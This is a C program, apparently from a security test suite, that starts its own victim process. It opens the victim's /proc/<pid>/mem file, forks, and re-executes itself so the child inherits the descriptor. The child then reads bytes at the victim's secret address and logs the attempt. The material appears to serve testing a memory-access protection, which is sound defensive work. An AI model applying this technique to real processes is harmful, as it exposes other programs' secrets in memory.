/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Opens a victim's mem file, forks, and executes another program that inherits the descriptor and reads from
 * it. That program is this one, called as: steal_inherited use <descriptor> <victim's pid> <address> <ns>,
 * where <ns> is the time before the fork: a descriptor is inherited at execve, before this program's first
 * line.
 */
#include "attack.h"

static int use(char **arguments)
{
	struct victim victim = victim_from(atoi(arguments[3]));
	int fd = atoi(arguments[2]);
	long long start = atoll(arguments[5]);
	struct act act = act_begin(&victim);
	char bytes[16];

	act.before = (struct timespec){.tv_sec = start / 1000000000, .tv_nsec = start % 1000000000};
	act.bytes = pread(fd, bytes, sizeof(bytes), strtoul(arguments[4], NULL, 16));
	act_end(&act, act.bytes);
	act_path_of(&act, fd);
	strcpy(act.request, "inherited");
	act_print(&act);
	return 0;
}

int main(int count, char **arguments)
{
	char descriptor[16], pid[16], address[32], start[32], path[64];
	struct timespec now;
	struct victim victim;
	struct act act;
	pid_t heir;
	int fd;

	attack_begin("steal_inherited");
	if (count == 6)
		return use(arguments);
	victim = victim_start();
	snprintf(path, sizeof(path), "/proc/%d/mem", victim.pid);
	act = act_begin(&victim);
	fd = act_openat(&act, AT_FDCWD, path, O_RDONLY);
	act_print(&act);
	snprintf(descriptor, sizeof(descriptor), "%d", fd);
	snprintf(pid, sizeof(pid), "%d", victim.pid);
	snprintf(address, sizeof(address), "%lx", victim.secret);
	clock_gettime(CLOCK_REALTIME, &now);
	snprintf(start, sizeof(start), "%lld", now.tv_sec * 1000000000LL + now.tv_nsec);
	heir = fork();
	if (!heir) {
		execl("/proc/self/exe", "steal_inherited", "use", descriptor, pid, address, start, NULL);
		_exit(1);
	}
	return attack_wait(heir);
}
